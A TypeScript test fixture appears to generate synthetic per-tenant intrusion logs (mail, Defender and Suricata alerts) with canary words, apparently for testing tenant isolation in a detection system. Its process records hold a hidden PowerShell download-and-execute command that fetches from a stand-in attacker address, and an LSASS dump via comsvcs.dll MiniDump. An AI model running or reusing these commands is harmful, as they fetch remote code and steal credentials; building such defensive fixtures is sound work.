import type { Kit, Line, Organisation, Who } from '../../../records/kit.ts';
import { processCreated } from '../../../records/windows.ts';
import { kitOf } from '../../../scenarios/kit-of.ts';
import { MINUTE_MS } from '../../../scenarios/stage.ts';
import { defenderAlert, mailAlert, sha256Like, suricataAlert } from '../week/product-alerts.ts';

/** The word that stands in every name of a tenant, and in none of another. */
export const canaryOf = (tenant: number): string => `canary${tenant}x`;

/** Numbers of the tenants whose word stands in a text. */
export function canariesIn(text: string): number[] {
  return [...new Set([...text.matchAll(/canary(\d+)x/gi)].map((match) => Number(match[1])))];
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const [ATTACKER, INSIDE] = ['203.0.113.150', '10.20.8.11'];

/**
 * An intrusion at a tenant. Names hold the tenant's word; addresses, times, identifiers of processes, mails, files and people are the same at every tenant, so that whatever
 * looks past the tenant finds something to join.
 */
export function canaryRecords(tenant: number, startMs: number): Line[] {
  const word = canaryOf(tenant);
  const kit = kitOf(organisationOf(word), 1, 'tenants');
  const who: Who = { name: `Ann ${word}`, account: `ann.${word}`, upn: `ann.${word}@${word}.example`, id: '5d0c6d1e-0000-4000-8000-000000000001', sid: 'S-1-5-21-1004336348-1177238915-682003330-1611' };
  const host = `WS-${word.toUpperCase()}`;
  return [
    mailAlert(kit, startMs, { from: 'billing@fabrikam-pay.example', to: who.upn, subject: `Invoice ${word}`, name: 'Malicious attachment', category: 'malware', priority: 'high', senderAddress: ATTACKER }),
    ...programs(kit, startMs, host, who),
    defenderAlert(kit, startMs + 9 * MINUTE_MS, { host, who, title: 'Credentials in memory were read', severity: 'high', category: 'CredentialAccess', techniques: ['T1003.001'], commandLine: 'rundll32.exe comsvcs.dll, MiniDump', sha256: sha256Like('rundll32.exe'), remote: ATTACKER }),
    suricataAlert(kit, startMs + 12 * MINUTE_MS, { from: INSIDE, to: ATTACKER, port: 443, signature: `EXAMPLE MALWARE Loader check-in ${word}`, signatureId: 9_150_001, category: 'Malware Command and Control Activity Detected', severity: 1 }),
  ];
}

function programs(kit: Kit, startMs: number, host: string, who: Who): Line[] {
  const shell = { host, who, logonId: '0x7d41a2', pid: 4711, parentPid: 4700, parentImage: CMD, image: POWERSHELL, commandLine: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a')"` };
  const dump = { host, who, logonId: '0x7d41a2', pid: 4720, parentPid: 4711, parentImage: POWERSHELL, image: 'C:\\Windows\\System32\\rundll32.exe', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full' };
  return [processCreated(kit, startMs + 2 * MINUTE_MS, shell), processCreated(kit, startMs + 8 * MINUTE_MS, dump)];
}

function organisationOf(word: string): Organisation {
  return {
    domain: `${word}.example`, netbios: word.toUpperCase(), entraTenant: `${word}-entra`, awsAccount: '111122223333', awsRegion: 'eu-central-1', sharePoint: `${word}.sharepoint.example`,
    onMicrosoft: `${word}.onmicrosoft.example`, firewall: { name: `FW-${word.toUpperCase()}`, serial: word }, githubOrg: `${word}-dev`, googleCustomer: word,
  };
}
